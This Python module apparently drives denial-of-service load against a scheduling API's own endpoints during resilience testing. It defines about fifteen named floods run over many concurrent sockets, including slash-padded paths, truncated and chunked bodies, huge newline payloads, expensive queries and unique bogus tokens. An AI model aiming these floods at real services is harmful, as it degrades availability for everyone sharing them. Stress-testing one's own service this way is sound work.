"""What one caller sends to hold a service from all others: a process of its own, until its input ends.

Arguments: the name of an attack, the address of the service, and the token of a tenant.
"""

from __future__ import annotations

import json
import socket
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from itertools import count
from typing import NamedTuple
from urllib.parse import urlsplit

AT_ONCE = 60
MEBIBYTE = 1 << 20
YEAR = "from=2026-01-01T00:00:00Z&to=2026-12-31T00:00:00Z"


def head(method: str, path: str, secret: str | None = None, **headers: object) -> bytes:
    """Return the head of a request."""
    fields = {"Host": "localhost", "Connection": "close", **headers}
    if secret is not None:
        fields["Authorization"] = f"Bearer {secret}"
    lines = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in fields.items())
    return f"{method} {path} HTTP/1.1\r\n{lines}\r\n".encode()


def slashes(_secret: str) -> Iterator[bytes]:
    """Yield paths of all depths."""
    for length in range(31 << 10, 0, -150):
        yield head("GET", "/jobs" + "/" * length)


def documents(_secret: str) -> Iterator[bytes]:
    while True:
        yield head("GET", "/api/openapi.json", Connection="keep-alive") * 20 + head(
            "GET", "/api/openapi.json"
        )


def cut_off_bodies(_secret: str) -> Iterator[bytes]:
    while True:
        yield head("POST", "/api/v1/session/", Content_Length=100, Content_Type="application/json") + b"{"


def tiny_chunks(_secret: str) -> Iterator[bytes]:
    opening = head("POST", "/api/v1/session/", Transfer_Encoding="chunked", Content_Type="application/json")
    while True:
        yield opening + b"1\r\n \r\n" * 100_000


def blank_lines(secret: str) -> Iterator[bytes]:
    yield from lines(secret, b"\n" * (4 * MEBIBYTE))


def wrong_lines(secret: str) -> Iterator[bytes]:
    yield from lines(secret, b'{"every": "x"}\n' * 60_000)


def lines(secret: str, body: bytes) -> Iterator[bytes]:
    opening = head(
        "POST",
        "/api/v1/schedules/batch/",
        secret,
        Content_Length=len(body),
        Content_Type="application/x-ndjson",
    )
    while True:
        yield opening + body


def timelines(secret: str) -> Iterator[bytes]:
    while True:
        yield head("GET", f"/api/v1/timeline/?{YEAR}", secret)


def upcoming(secret: str) -> Iterator[bytes]:
    while True:
        yield head("GET", "/api/v1/upcoming/?limit=500", secret)


def previews(secret: str) -> Iterator[bytes]:
    fields = {"cron": "*/7 3-5 29 2 *", "timezone": "America/Santiago", "not_on": ["monday", "tuesday"]}
    body = json.dumps(fields).encode()
    while True:
        yield head("POST", "/api/v1/preview/?limit=500", secret, Content_Length=len(body)) + body


def small_pages(secret: str) -> Iterator[bytes]:
    """Yield calls that cost just less than what is expensive."""
    while True:
        yield head("GET", "/api/v1/upcoming/?limit=240", secret)


def creates(secret: str) -> Iterator[bytes]:
    body = json.dumps({"every": "1h", "run": {"message": {"text": "hello"}}}).encode()
    opening = head(
        "POST", "/api/v1/schedules/", secret, Content_Length=len(body), Content_Type="application/json"
    )
    while True:
        yield opening + body


def cookies(_secret: str) -> Iterator[bytes]:
    """Yield requests that look as if they had a token, at a path where nobody asks for one."""
    while True:
        yield head("GET", "/api/v1/nowhere/", Cookie="theme=dark", Connection="keep-alive") * 20 + head(
            "GET", "/api/v1/nowhere/", Cookie="theme=dark"
        )


def wrong_tokens(_secret: str) -> Iterator[bytes]:
    """Yield requests with tokens that nobody has, each another one: each has to be looked up."""
    for number in count():
        yield head("GET", "/api/v1/schedules/", f"ew_guess-{number}")


def lists(secret: str) -> Iterator[bytes]:
    while True:
        yield head("GET", "/api/v1/schedules/?limit=500&recent=true&facets=status,group,type&q=e", secret)


class Attack(NamedTuple):
    """What is sent, over how many connections at once, and whether each is closed before its answer."""

    requests: Callable[[str], Iterator[bytes]]
    connections: int
    leaves: bool = False


ATTACKS: Mapping[str, Attack] = {
    "slashes": Attack(slashes, 4),
    "documents": Attack(documents, 40),
    "cut_off_bodies": Attack(cut_off_bodies, 20, leaves=True),
    "tiny_chunks": Attack(tiny_chunks, 8, leaves=True),
    "blank_lines": Attack(blank_lines, 8),
    "wrong_lines": Attack(wrong_lines, 8),
    "timelines": Attack(timelines, AT_ONCE),
    "timelines_that_nobody_takes": Attack(timelines, AT_ONCE, leaves=True),
    "upcoming": Attack(upcoming, AT_ONCE),
    "previews": Attack(previews, AT_ONCE),
    "lists": Attack(lists, AT_ONCE),
    "small_pages": Attack(small_pages, 400),
    "creates": Attack(creates, 400),
    "cookies": Attack(cookies, 40),
    "wrong_tokens": Attack(wrong_tokens, 400),
}


def send(
    url: str, attack: Attack, pieces: Iterator[bytes], counts: dict[str, int], guard: threading.Lock
) -> None:
    parts = urlsplit(url)
    while True:
        with guard:
            piece = next(pieces, None)
        if piece is None:
            return
        with suppress(OSError), socket.create_connection((parts.hostname, parts.port), 60) as peer:
            peer.sendall(piece)
            if attack.leaves:
                peer.shutdown(socket.SHUT_WR)
            status = b""
            while answer := peer.recv(1 << 18):
                status = status or answer[9:12]
            counts[status.decode()] = counts.get(status.decode(), 0) + 1


def main(name: str, url: str, secret: str) -> None:
    attack = ATTACKS[name]
    pieces, counts, guard = attack.requests(secret), dict[str, int](), threading.Lock()
    for _ in range(attack.connections):
        threading.Thread(target=send, args=(url, attack, pieces, counts, guard), daemon=True).start()
    print("begun", flush=True)
    sys.stdin.read()
    print(json.dumps(counts), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
